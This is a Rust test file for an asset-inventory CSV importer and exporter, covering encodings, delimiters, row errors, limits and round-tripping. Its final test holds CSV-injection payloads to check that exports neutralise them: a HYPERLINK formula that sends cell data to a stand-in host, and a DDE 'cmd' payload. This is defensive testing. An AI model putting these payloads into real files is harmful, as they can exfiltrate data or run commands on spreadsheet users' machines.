//! The asset importer on the files clients actually send: Excel's UTF-8 with BOM, a German
//! Excel's Windows-1252 with semicolons, a file with bad rows, and a 10k-row sheet.

use chrono::{DateTime, Utc};
use cordon_core::asset::{Asset, AssetKind, DataClass, Severity, VulnStatus};
use cordon_core::asset_csv::{self, AssetField, TextEncoding};
use cordon_core::limits::{MAX_CSV_BYTES, MAX_CSV_ROWS};
use cordon_core::{AssetId, ClientId};
use uuid::Uuid;

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/fixtures/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

fn parse_all(
    bytes: &[u8],
) -> (
    asset_csv::Table,
    Vec<asset_csv::ParsedRow>,
    Vec<asset_csv::RowError>,
) {
    let table = asset_csv::read(bytes).unwrap();
    let mapping = asset_csv::suggest_mapping(&table.headers);
    let (ok, errors) = asset_csv::parse_rows(&table, &mapping).unwrap();
    (table, ok, errors)
}

#[test]
fn utf8_with_bom_and_varied_headers() {
    let (table, ok, errors) = parse_all(&fixture("bom_utf8.csv"));
    assert_eq!(table.encoding, TextEncoding::Utf8Bom);
    assert_eq!(
        table.headers[0], "Asset name",
        "the BOM is not part of the first header"
    );
    assert_eq!(
        asset_csv::suggest_mapping(&table.headers),
        [
            Some(AssetField::Name),
            Some(AssetField::Kind),
            Some(AssetField::Owner),
            Some(AssetField::Location),
            Some(AssetField::Criticality),
            Some(AssetField::DataClasses),
            Some(AssetField::Rto),
            Some(AssetField::Rpo),
            Some(AssetField::Dependencies),
            Some(AssetField::Likelihood),
            Some(AssetField::Impact),
            Some(AssetField::RiskRationale),
        ]
    );
    assert!(errors.is_empty(), "{errors:?}");
    let fs = &ok[1].input;
    assert_eq!(ok[1].row, 3);
    assert_eq!(fs.name, "FS-01");
    assert_eq!(fs.kind, AssetKind::Server);
    assert_eq!(fs.owner, "Jürgen Weiß");
    assert_eq!(fs.criticality, 1);
    assert_eq!(
        fs.data_classes,
        [DataClass::Pii, DataClass::ConfidentialBusiness]
    );
    assert_eq!((fs.rto_minutes, fs.rpo_minutes), (Some(480), Some(1440)));
    assert_eq!(fs.dependencies, ["DC-01"]);
    let risk = fs.risk.as_ref().unwrap();
    assert_eq!((risk.likelihood, risk.impact), (4, 4));
    assert_eq!(risk.rationale, "Shared drives, HR folders");
}

#[test]
fn windows_1252_with_semicolons_keeps_accents() {
    let (table, ok, errors) = parse_all(&fixture("windows1252_semicolon.csv"));
    assert_eq!(table.encoding, TextEncoding::Windows1252);
    assert_eq!(table.delimiter, ';');
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(ok[0].input.name, "Serveur-Défense");
    assert_eq!(ok[0].input.owner, "René Müller");
    assert_eq!(ok[0].input.location, "Zürich");
    assert_eq!(ok[1].input.name, "Lager-Ølstykke");
    assert_eq!(ok[1].input.owner, "Søren Ødegård");
    assert_eq!(ok[1].input.criticality, 3);
    assert_eq!(ok[0].input.data_classes, [DataClass::Pii]);
}

#[test]
fn semicolons_in_utf8_with_quoted_separator() {
    let (table, ok, errors) = parse_all(&fixture("semicolon_utf8.csv"));
    assert_eq!((table.encoding, table.delimiter), (TextEncoding::Utf8, ';'));
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(ok[0].input.name, "CRM; hosted");
    assert_eq!(ok[0].input.kind, AssetKind::SaasApplication);
    assert_eq!(ok[0].input.rto_minutes, Some(1440));
    assert_eq!(ok[1].input.rto_minutes, Some(30));
}

#[test]
fn excel_sep_line_names_the_separator_and_is_not_a_row() {
    let (table, ok, errors) = parse_all(b"sep=;\r\nName;Criticality\r\nA, B and C;2\r\nD;9\r\n");
    assert_eq!(table.delimiter, ';');
    assert_eq!(ok[0].input.name, "A, B and C");
    assert_eq!(errors[0].row, 3, "the header is row 1, as Excel shows it");
}

#[test]
fn bad_rows_are_reported_by_row_column_and_fix() {
    let (_, ok, errors) = parse_all(&fixture("two_bad_rows.csv"));
    let names: Vec<_> = ok.iter().map(|r| r.input.name.as_str()).collect();
    assert_eq!(names, ["FW-01", "Mail"]);
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert_eq!(
        (errors[0].row, errors[0].column.as_str()),
        (3, "Criticality")
    );
    assert_eq!(
        errors[0].message,
        "criticality must be 1 (highest) to 4; use 1–4 (got '5')"
    );
    assert_eq!(
        (errors[1].row, errors[1].column.as_str()),
        (4, "Data classes")
    );
    assert!(
        errors[1]
            .message
            .starts_with("'sandwiches' is not a data class; use PII"),
        "{}",
        errors[1].message
    );
}

#[test]
fn duplicate_names_and_missing_name_column() {
    let csv = b"Name,Criticality\nFS-01,1\n fs-01 ,2\n,3\n";
    let (_, ok, errors) = parse_all(csv);
    assert_eq!(ok.len(), 1);
    assert_eq!(errors[0].row, 3);
    assert!(
        errors[0].message.contains("already the name in row 2"),
        "{errors:?}"
    );
    assert_eq!((errors[1].row, errors[1].column.as_str()), (4, "Name"));

    let table = asset_csv::read(b"Host,Tier\nA,1\n").unwrap();
    let err =
        asset_csv::parse_rows(&table, &vec![None, Some(AssetField::Criticality)]).unwrap_err();
    assert!(
        err.fields[0]
            .message
            .contains("no column is mapped to Name"),
        "{err}"
    );
    let err = asset_csv::parse_rows(
        &table,
        &vec![Some(AssetField::Name), Some(AssetField::Name)],
    )
    .unwrap_err();
    assert!(
        err.to_string().contains("Name is mapped from 2 columns"),
        "{err}"
    );
}

#[test]
fn vulnerabilities_and_half_risks() {
    let csv = "Name,Vulnerabilities,Likelihood,Impact\n\
               VPN,\"CVE-2024-3400 [critical, open] | Weak MFA [medium, mitigated]\",3,\n\
               Web,SMBv1 enabled,,\n\
               Ok,Old TLS [low],,\n";
    let (_, ok, errors) = parse_all(csv.as_bytes());
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert_eq!((errors[0].row, errors[0].column.as_str()), (2, "Impact"));
    assert_eq!(
        (errors[1].row, errors[1].column.as_str()),
        (3, "Vulnerabilities")
    );
    assert!(errors[1].message.contains("[severity, status]"));
    assert_eq!(ok.len(), 1);
    assert_eq!(ok[0].input.vulnerabilities[0].severity, Severity::Low);
    assert_eq!(ok[0].input.vulnerabilities[0].status, VulnStatus::Open);
}

#[test]
fn utf16_and_empty_and_oversized_files_say_what_to_do() {
    let mut utf16 = vec![0xFF, 0xFE];
    for u in "Name,Criticality\nÅland-01,2\n".encode_utf16() {
        utf16.extend(u.to_le_bytes());
    }
    let (table, ok, _) = parse_all(&utf16);
    assert_eq!(table.encoding, TextEncoding::Utf16Le);
    assert_eq!(ok[0].input.name, "Åland-01");

    assert!(
        asset_csv::read(b"")
            .unwrap_err()
            .to_string()
            .contains("the file is empty")
    );
}

/// Each limit of `cordon_core::limits` at its cutoff: the limit passes, one more is refused.
#[test]
fn size_and_row_limits_cut_off_at_the_limit() {
    let limit = MAX_CSV_BYTES as usize;
    // A header and one row, padded with blank lines (which are not rows) to the byte.
    let head = b"Name\nfs-01\n";
    let mut at = head.to_vec();
    at.resize(limit, b'\n');
    assert_eq!(
        asset_csv::read(&at)
            .unwrap()
            .rows
            .iter()
            .filter(|r| !r.is_empty())
            .count(),
        1
    );
    at.push(b'\n');
    let err = asset_csv::read(&at).unwrap_err();
    assert_eq!(err.fields[0].field, "file");
    assert!(
        err.fields[0].message.contains("larger than 20 MiB"),
        "{err}"
    );
    assert!(err.fields[0].message.contains("split it"), "{err}");

    let mut many = String::from("Name\n");
    for i in 0..MAX_CSV_ROWS {
        many.push_str(&format!("a{i}\n"));
        if i % 1000 == 0 {
            many.push('\n'); // blank lines do not count as rows
        }
    }
    assert_eq!(
        asset_csv::read(many.as_bytes())
            .unwrap()
            .rows
            .iter()
            .filter(|r| !r.is_empty())
            .count(),
        MAX_CSV_ROWS
    );
    many.push_str("one-more\n");
    assert!(
        asset_csv::read(many.as_bytes())
            .unwrap_err()
            .to_string()
            .contains(&format!("more than {MAX_CSV_ROWS} rows"))
    );
}

#[test]
fn ten_thousand_rows_parse() {
    let mut csv = String::from("Name;Kind;Criticality;Data classes;Likelihood;Impact\n");
    for i in 0..10_000 {
        csv.push_str(&format!(
            "host-{i:05};Server;{};PII|Credentials;{};{}\n",
            i % 4 + 1,
            i % 5 + 1,
            5 - i % 5
        ));
    }
    let start = std::time::Instant::now();
    let (_, ok, errors) = parse_all(csv.as_bytes());
    assert!(errors.is_empty());
    assert_eq!(ok.len(), 10_000);
    assert_eq!(ok[9_999].row, 10_001);
    assert!(start.elapsed().as_secs() < 20, "took {:?}", start.elapsed());
}

#[test]
fn export_then_import_round_trips() {
    let now: DateTime<Utc> = DateTime::UNIX_EPOCH;
    let client = ClientId::from_uuid(Uuid::from_u128(1));
    let (_, ok, errors) = parse_all(&fixture("bom_utf8.csv"));
    assert!(errors.is_empty());
    let dc = AssetId::from_uuid(Uuid::from_u128(10));
    let resolve = |n: &str| (n == "DC-01").then_some(dc);
    let mut assets: Vec<Asset> = Vec::new();
    for (i, r) in ok.iter().enumerate() {
        let id = AssetId::from_uuid(Uuid::from_u128(10 + i as u128));
        let mut input = r.input.clone();
        input.vulnerabilities = vec![cordon_core::asset::Vulnerability {
            title: "Print spooler, unpatched".into(),
            severity: Severity::High,
            status: VulnStatus::Accepted,
        }];
        assets.push(Asset::create(id, client, input, &resolve, now).unwrap());
    }
    let name_of = |id: &AssetId| assets.iter().find(|a| a.id == *id).map(|a| a.name.clone());
    let text = asset_csv::export(&assets, &name_of);
    let (_, again, errors) = parse_all(text.as_bytes());
    assert!(errors.is_empty(), "{errors:?}\n{text}");
    for (a, r) in assets.iter().zip(&again) {
        let back = Asset::create(a.id, client, r.input.clone(), &resolve, now).unwrap();
        assert_eq!(&back, a, "\n{text}");
    }
}

/// OWASP's CSV-injection rule: a cell a spreadsheet would run as a formula is written with a
/// leading quote; read back by a plain CSV parser the quote is there, and Cordon's importer
/// takes it off so the asset comes back as it was.
#[test]
fn formula_cells_are_neutralised_in_the_export_and_restored_on_import() {
    let now: DateTime<Utc> = DateTime::UNIX_EPOCH;
    let client = ClientId::from_uuid(Uuid::from_u128(1));
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ];
    let assets: Vec<Asset> = hostile
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let input = cordon_core::asset::AssetInput {
                name: (*name).into(),
                owner: "=1+1".into(),
                criticality: 2,
                ..Default::default()
            };
            let id = AssetId::from_uuid(Uuid::from_u128(100 + i as u128));
            Asset::create(id, client, input, &|_| None, now).unwrap()
        })
        .collect();
    let text = asset_csv::export(&assets, &|_| None);

    let mut raw = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = raw.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), hostile.len());
    for (row, name) in rows.iter().zip(hostile) {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
        assert_eq!(&row[0], format!("'{name}"));
        assert_eq!(&row[2], "'=1+1");
    }

    let (_, again, errors) = parse_all(text.as_bytes());
    assert!(errors.is_empty(), "{errors:?}");
    let names: Vec<&str> = again.iter().map(|r| r.input.name.as_str()).collect();
    assert_eq!(names, hostile);
    assert!(again.iter().all(|r| r.input.owner == "=1+1"));
}
